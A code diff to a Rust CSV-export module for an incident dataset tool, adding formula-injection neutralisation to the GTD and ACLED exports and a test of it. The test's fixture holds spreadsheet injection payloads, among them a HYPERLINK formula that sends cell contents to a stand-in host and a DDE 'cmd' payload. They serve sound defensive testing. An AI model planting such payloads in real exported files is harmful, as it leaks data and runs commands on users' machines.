@@ -5,6 +5,11 @@
 //! The CSV mappings keep annalist's meaning where the target has no slot for it: a range is
 //! written as its low (the conservative figure both datasets code) with the high in an extra
 //! column, and a date interval as its first day with GTD's `approxdate` or an extra end column.
+//!
+//! Cells come from article text, so the CSV exports neutralise formulas (OWASP's rule: a cell
+//! beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it is
+//! a plain number such as a negative longitude) and quote every field holding a comma, a quote
+//! or a line break (the `csv` crate's writer).
 
 use annalist_knowledge::Gazetteer;
 use annalist_model::{AttributionStatus, CountRange, EventType, Field, Incident, Target, Weapon};
@@ -229,10 +234,24 @@ pub fn incidents_gtd_csv(store: &Store, out: &mut dyn Write) -> Result<usize> {
             summary(inc),
             inc.sources.join("; "),
         ];
-        w.write_record(&row)?;
+        w.write_record(row.iter().map(|c| spreadsheet_safe(c)))?;
     }
     w.flush()?;
     Ok(incidents.len())
+}
+
+/// `cell` as a spreadsheet reads it without running it: a leading `'` before a cell that
+/// opens with a formula character (`=`, `+`, `-`, `@`, tab, CR), except a plain number.
+fn spreadsheet_safe(cell: &str) -> String {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell.len() < 32
+        && cell.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
+        && cell.parse::<f64>().is_ok();
+    if formula && !number {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
 }
 
 fn gtd_weapon_type(w: Weapon) -> &'static str {
@@ -304,7 +323,7 @@ pub fn incidents_acled_csv(store: &Store, out: &mut dyn Write) -> Result<usize> 
             outlets(inc),
             inc.sources.join("; "),
         ];
-        w.write_record(&row)?;
+        w.write_record(row.iter().map(|c| spreadsheet_safe(c)))?;
     }
     w.flush()?;
     Ok(incidents.len())
@@ -332,4 +351,85 @@ pub fn incidents_geojson(store: &Store, out: &mut dyn Write) -> Result<usize> {
     serde_json::to_writer(&mut *out, &json!({"type": "FeatureCollection", "features": features}))?;
     out.write_all(b"\n")?;
     Ok(incidents.len())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use annalist_model::Perpetrator;
+
+    const HOSTILE: [&str; 8] = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "a, \"quoted\"\nsecond line",
+        "plain",
+    ];
+
+    fn incident(n: usize, text: &str) -> Incident {
+        Incident {
+            id: format!("inc_{n}"),
+            event_type: EventType::Bombing,
+            date_start: NaiveDate::from_ymd_opt(2024, 1, 3),
+            date_end: NaiveDate::from_ymd_opt(2024, 1, 3),
+            country: Some("IR".into()),
+            place: Some(text.into()),
+            lat: Some(30.28),
+            lon: Some(-57.08),
+            perpetrators: vec![Perpetrator { name: text.into(), status: AttributionStatus::Claimed }],
+            killed: Some(CountRange::exact(3)),
+            wounded: None,
+            suicide: None,
+            attackers: None,
+            weapon: None,
+            target: None,
+            sources: vec![text.into()],
+            independent_sources: 1,
+            claims: Vec::new(),
+            conflicts: Vec::new(),
+            related: Vec::new(),
+        }
+    }
+
+    use chrono::NaiveDate;
+
+    #[test]
+    fn hostile_cells_round_trip_through_both_csv_formats_neutralised() {
+        let mut store = Store::in_memory().unwrap();
+        let incidents: Vec<Incident> = HOSTILE.iter().enumerate().map(|(n, t)| incident(n, t)).collect();
+        store.replace_incidents(&incidents).unwrap();
+        type Export = fn(&Store, &mut dyn Write) -> Result<usize>;
+        for (export, place_col, actor_col, lon_col) in [
+            (incidents_gtd_csv as Export, "city", "gname", "longitude"),
+            (incidents_acled_csv as Export, "location", "actor1", "longitude"),
+        ] {
+            let mut out = Vec::new();
+            assert_eq!(export(&store, &mut out).unwrap(), HOSTILE.len());
+            let mut reader = csv::Reader::from_reader(out.as_slice());
+            let headers = reader.headers().unwrap().clone();
+            let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+            assert_eq!(rows.len(), HOSTILE.len());
+            for row in &rows {
+                let n: usize = row[0].trim_start_matches("inc_").parse().unwrap();
+                let text = HOSTILE[n];
+                let expected = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    format!("'{text}")
+                } else {
+                    text.to_string()
+                };
+                assert_eq!(&row[col(place_col)], expected, "{row:?}");
+                assert_eq!(&row[col(actor_col)], expected, "{row:?}");
+                // a negative coordinate is a number, left as it is
+                assert_eq!(&row[col(lon_col)], "-57.08");
+                for cell in row.iter() {
+                    assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+                    assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
+                }
+            }
+        }
+    }
 }
